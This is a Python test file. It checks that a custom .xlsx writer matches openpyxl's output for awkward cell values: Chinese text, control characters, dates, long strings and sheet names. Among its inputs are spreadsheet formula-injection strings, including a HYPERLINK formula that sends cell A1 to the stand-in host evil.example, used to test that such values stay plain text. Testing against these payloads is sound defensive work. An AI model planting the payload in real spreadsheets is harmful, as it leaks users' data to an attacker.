"""The hand-written .xlsx (core.spreadsheets.xlsx_write) reads back as what openpyxl writes for
the same sheets: every cell's value and type, widths, the header's style, the frozen pane, the
filter, the sheets' names, the title; and its sheet XML is openpyxl's, element for element."""

import datetime as dt
import io
import re
import xml.etree.ElementTree as ET
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter

from core.spreadsheets import Sheet, xlsx_bytes

CONTROL = re.compile(r"[\000-\010\013\014\016-\037]")

AWKWARD = [
    "中文文本",
    "",
    None,
    "长" * 40_000,  # cut at Excel's 32,767
    0,
    -2,
    2.5,
    1 / 3,
    10**17,
    Decimal("1.10"),
    float("nan"),
    True,
    False,
    dt.date(2026, 3, 5),
    dt.datetime(2026, 3, 5, 7, 30, 15),
    dt.date(1900, 2, 1),  # before Excel's 29 February 1900
    "a & b <c> \"d\" 'e'",
    "bell\x07 vt\x0b nul\x00 esc\x1b",
    "line\r\nbreak\ttab",
    " leading",
    "trailing ",
    "   ",
    "全角空格\u3000",
    "\u200b零宽",
    "=1+2",
    "+86 351",
    "-2",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example/?d="&A1,"点此")',
]
ROWS = [AWKWARD, ["only", "two"], [], [None, None, "third"], ["尾"] * len(AWKWARD)]


def openpyxl_xlsx(sheets: list[Sheet], title: str) -> bytes:
    """openpyxl's write-only workbook for the sheets, strings forced to text, the control
    characters it refuses dropped first."""
    workbook = openpyxl.Workbook(write_only=True)
    for spec in sheets:
        sheet = workbook.create_sheet(spec.title[:31])
        for index, (_name, width) in enumerate(spec.columns, start=1):
            if width:
                sheet.column_dimensions[get_column_letter(index)].width = width
        if spec.freeze_header:
            sheet.freeze_panes = "A2"
        header = []
        for name, _width in spec.columns:
            cell = WriteOnlyCell(sheet, value=name)
            cell.font, cell.fill = Font(bold=True), PatternFill("solid", fgColor="DDEBF7")
            cell.alignment = Alignment(horizontal="center", vertical="center")
            header.append(cell)
        sheet.append(header)
        count = 0
        for row in spec.rows:
            cells = []
            for value in row:
                if isinstance(value, str):
                    value = WriteOnlyCell(sheet, value=CONTROL.sub("", value))
                    value.data_type = "s"
                cells.append(value)
            sheet.append(cells)
            count += 1
        if spec.filters:
            sheet.auto_filter.ref = f"A1:{get_column_letter(len(spec.columns))}{count + 1}"
    if title:
        workbook.properties.title = title
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def contents(data: bytes) -> dict:
    """What a reader sees of every sheet."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert package.testzip() is None
    book = openpyxl.load_workbook(io.BytesIO(data))
    seen = {"title": book.properties.title, "sheets": book.sheetnames}
    for sheet in book:
        seen[sheet.title] = {
            "cells": [
                [(c.value, c.data_type, c.is_date) for c in row] for row in sheet.iter_rows()
            ],
            "widths": {k: d.width for k, d in sheet.column_dimensions.items() if d.customWidth},
            "pane": sheet.freeze_panes,
            "filter": sheet.auto_filter.ref,
            "header": [
                (c.font.b, c.fill.fill_type, c.fill.fgColor.rgb, c.alignment.horizontal)
                for c in next(sheet.iter_rows(max_row=1), ())
            ],
            "formulas": [
                c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"
            ],
        }
    return seen


def sheet_data(data: bytes, part: str) -> list:
    """The <sheetData> of a sheet, element for element (tag, attributes but the style of
    dated cells, which is a number each writer picks, and text)."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        root = ET.fromstring(package.read(part))
    [rows] = [e for e in root if e.tag.endswith("sheetData")]
    header = re.compile(r"[A-Z]+1$")
    return [
        (e.tag, {k: v for k, v in e.attrib.items() if k != "s" or header.match(e.get("r"))}, e.text)
        for e in rows.iter()
    ]


def ledger_like(filters: bool = True) -> Sheet:
    columns = [(f"列{i}", 8 + i if i % 3 else None) for i in range(len(AWKWARD))]
    return Sheet("台账", columns, iter(ROWS), filters=filters)


def test_cells_widths_pane_filter_and_header_read_back_as_openpyxls():
    ours = xlsx_bytes([ledger_like()], title="全国台账")
    theirs = openpyxl_xlsx([ledger_like()], "全国台账")
    assert contents(ours) == contents(theirs)
    seen = contents(ours)["台账"]
    assert seen["filter"] == "A1:AC6" and seen["pane"] == "A2" and seen["formulas"] == []
    row = dict(zip(AWKWARD, seen["cells"][1], strict=False))
    assert row["=1+2"] == ("=1+2", "s", False) and row["-2"] == ("-2", "s", False)
    assert row[dt.date(2026, 3, 5)] == (dt.datetime(2026, 3, 5), "d", True)
    assert row["bell\x07 vt\x0b nul\x00 esc\x1b"] == ("bell vt nul esc", "s", False)
    assert row["line\r\nbreak\ttab"][0] == "line\r\nbreak\ttab"
    assert len(row["长" * 40_000][0]) == 32_767
    assert seen["header"][0] == (True, "solid", "00DDEBF7", "center")
    assert seen["widths"] == {get_column_letter(i + 1): 8 + i for i in range(len(AWKWARD)) if i % 3}


def test_the_sheet_xml_is_openpyxls_element_for_element():
    ours = xlsx_bytes([ledger_like()])
    theirs = openpyxl_xlsx([ledger_like()], "")
    assert sheet_data(ours, "xl/worksheets/sheet1.xml") == sheet_data(
        theirs, "xl/worksheets/sheet1.xml"
    )


@pytest.mark.parametrize("filters", [True, False])
def test_several_sheets_without_widths_pane_or_rows(filters):
    def sheets():
        return [
            Sheet("各县(市、区)", [("排名", None), ("单位", None)], [[1, "甲县"], [2, "乙县"]]),
            Sheet("O'Brien & <Co>", [("a", 5)], [], freeze_header=False, filters=filters),
            Sheet("很长的工作表名称" * 5, [("x", None)], [["y"]], filters=filters),
        ]

    ours, theirs = xlsx_bytes(sheets()), openpyxl_xlsx(sheets(), "")
    assert contents(ours) == contents(theirs)
    assert contents(ours)["sheets"][1] == "O'Brien & <Co>"
    if filters:  # the filter's range is named in the workbook as Excel expects
        book = openpyxl.load_workbook(io.BytesIO(ours))
        assert book["O'Brien & <Co>"].auto_filter.ref == "A1:A1"


def test_a_time_zone_is_refused_as_openpyxl_refuses_it():
    aware = dt.datetime(2026, 3, 5, 7, 30, tzinfo=dt.UTC)
    with pytest.raises(ValueError, match="time zones"):
        xlsx_bytes([Sheet("s", [("a", None)], [[aware]])])
    with pytest.raises(ValueError, match="text or a number"):
        xlsx_bytes([Sheet("s", [("a", None)], [[object()]])])
